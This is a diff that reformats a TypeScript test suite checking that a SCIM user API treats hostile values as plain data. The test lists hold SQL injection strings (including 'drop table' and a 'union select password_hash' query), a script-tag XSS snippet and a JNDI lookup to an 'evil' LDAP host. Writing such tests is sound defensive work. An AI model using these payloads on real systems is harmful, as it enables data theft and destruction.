@@ -10,13 +10,37 @@ import { seedFixture, snapshot, type Fixture } from './hostile-fixture';
  * exactly, and found again by an exact filter.
  */
 const INJECTED_VALUES = [
-  "' or '1'='1", "' or 1=1 --", '"; drop table members; --', "x' union select password_hash from accounts --",
-  '%', '_', '%%', '\\', '\\%', '%_%', '*', '.*', '$1', '${userName}', "E'\\x27'", '\u202e', '😀',
+  "' or '1'='1",
+  "' or 1=1 --",
+  '"; drop table members; --',
+  "x' union select password_hash from accounts --",
+  '%',
+  '_',
+  '%%',
+  '\\',
+  '\\%',
+  '%_%',
+  '*',
+  '.*',
+  '$1',
+  '${userName}',
+  "E'\\x27'",
+  '\u202e',
+  '😀',
 ];
 
 const ODD_NAMES = [
-  'O\'Brien "Bob" \\ /', '\u202eevil\u202c', '👩‍👩‍👧‍👦 family', 'z̷̧̛a̶l̸g̵o̵', '名前 テスト', '<script>alert(1)</script>',
-  '${jndi:ldap://evil/a}', "Robert'); DROP TABLE members;--", 'tab\tand\nnewline', '%_\\ wildcards', 'x\u200by',
+  'O\'Brien "Bob" \\ /',
+  '\u202eevil\u202c',
+  '👩‍👩‍👧‍👦 family',
+  'z̷̧̛a̶l̸g̵o̵',
+  '名前 テスト',
+  '<script>alert(1)</script>',
+  '${jndi:ldap://evil/a}',
+  "Robert'); DROP TABLE members;--",
+  'tab\tand\nnewline',
+  '%_\\ wildcards',
+  'x\u200by',
 ];
 
 describe.each(testDrivers())('valid but hostile SCIM values on $driver', ({ open }) => {
@@ -32,7 +56,13 @@ describe.each(testDrivers())('valid but hostile SCIM values on $driver', ({ open
     const before = await snapshot(handle.db, fixture);
     for (const value of INJECTED_VALUES) {
       const literal = JSON.stringify(value);
-      for (const filter of [`userName eq ${literal}`, `userName co ${literal}`, `displayName sw ${literal}`, `emails[value ew ${literal}]`, `not (userName ne ${literal})`]) {
+      for (const filter of [
+        `userName eq ${literal}`,
+        `userName co ${literal}`,
+        `displayName sw ${literal}`,
+        `emails[value ew ${literal}]`,
+        `not (userName ne ${literal})`,
+      ]) {
         for (const reply of [await fixture.a.call('GET', filterQuery('Users', filter)), await fixture.a.call('POST', '/Users/.search', { filter })]) {
           expect(reply.status, filter).toBe(200);
           expect(reply.json?.totalResults, filter).toBe(0);
@@ -55,7 +85,10 @@ describe.each(testDrivers())('valid but hostile SCIM values on $driver', ({ open
       const read = await fixture.a.call('GET', `/Users/${String(created.json?.id)}`);
       expect(read.json, name).toMatchObject({ displayName: name, externalId: name, title: name, name: { givenName: name } });
       const found = await fixture.a.call('GET', filterQuery('Users', `displayName eq ${JSON.stringify(name)}`));
-      expect((found.json?.Resources as { id: string }[]).map((r) => r.id), name).toEqual([created.json?.id]);
+      expect(
+        (found.json?.Resources as { id: string }[]).map((r) => r.id),
+        name,
+      ).toEqual([created.json?.id]);
       const group = await fixture.a.call('POST', '/Groups', { schemas: [GROUP_URN], displayName: `${name} ${i}` });
       expect(group.status, name).toBe(201);
       expect((await fixture.a.call('GET', `/Groups/${String(group.json?.id)}`)).json?.displayName).toBe(`${name} ${i}`);
